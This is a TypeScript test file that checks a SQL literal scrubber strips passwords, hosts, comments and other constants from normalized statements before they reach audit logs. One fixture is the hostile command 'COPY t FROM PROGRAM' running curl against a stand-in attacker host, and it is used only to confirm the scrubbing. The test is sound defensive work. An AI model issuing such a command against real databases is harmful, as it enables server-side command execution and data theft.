import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { normalizeSync } from 'libpg-query';
import { analyseSql, loadSqlParser } from './parser.ts';
import { scrubLiterals, UNSCRUBBABLE_TEXT } from './scrub-literals.ts';

/** Statements normalize leaves constants in, and the literals that must not survive. */
const LEAKY_STATEMENTS: readonly (readonly [string, readonly string[]])[] = [
  ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.internal', password 'pw-secret-1')", ['db.internal', 'pw-secret-1']],
  ["COPY t FROM PROGRAM 'curl https://evil.example/x'", ['curl', 'evil.example']],
  ["ALTER SYSTEM SET work_mem = '64MB'", ['64MB']],
  ["COMMENT ON TABLE t IS 'sécret-comment'", ['sécret-comment']],
  ["PREPARE p AS SELECT 'lit-prepared', 4242, B'10101', X'ff0f', 1.5e3, E'x\\'y', $$dollar-body$$, U&'d\\0061t'", ['lit-prepared', '4242', '10101', 'ff0f', '1.5e3', "x\\'y", 'dollar-body', 'd\\0061t']],
  ["EXECUTE p('lit-executed', 77)", ['lit-executed', '77']],
  ["CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u', password 'pw-secret-2')", ['pw-secret-2']],
];

describe('scrubLiterals', () => {
  before(async () => {
    await loadSqlParser();
  });

  for (const [sql, literals] of LEAKY_STATEMENTS) {
    it(`leaves no literal in: ${sql.slice(0, 40)}…`, () => {
      const scrubbed = scrubLiterals(normalizeSync(sql));
      for (const literal of literals) assert.ok(!scrubbed.includes(literal), `${literal} in ${scrubbed}`);
      assert.match(scrubbed, /\$1/);
    });
  }

  it('is applied to the audit text of every analysed statement', () => {
    for (const [sql, literals] of LEAKY_STATEMENTS) {
      const analysis = analyseSql(sql);
      assert.ok(analysis.ok);
      for (const literal of literals) assert.ok(!analysis.normalized.includes(literal), `${literal} in ${analysis.normalized}`);
    }
  });

  it('numbers after the parameters already present and keeps the rest of the text', () => {
    assert.equal(scrubLiterals("SELECT $2 || $1 || 'x' || 5"), 'SELECT $2 || $1 || $3 || $4');
    assert.equal(scrubLiterals('DELETE FROM invoices'), 'DELETE FROM invoices');
    assert.equal(scrubLiterals("SELECT 'é', \"naïve\""), 'SELECT $1, "naïve"');
    assert.equal(scrubLiterals(''), '');
  });

  it('drops comments, which may quote anything', () => {
    const scrubbed = scrubLiterals("SELECT 1 /* password 'hunter2' */ -- token abc");
    assert.ok(!/hunter2|abc/.test(scrubbed), scrubbed);
    assert.match(scrubbed, /^SELECT \$1\s/);
  });

  it('withholds text the lexer cannot read rather than leak it', () => {
    assert.equal(scrubLiterals("SELECT 'unterminated"), UNSCRUBBABLE_TEXT);
  });
});
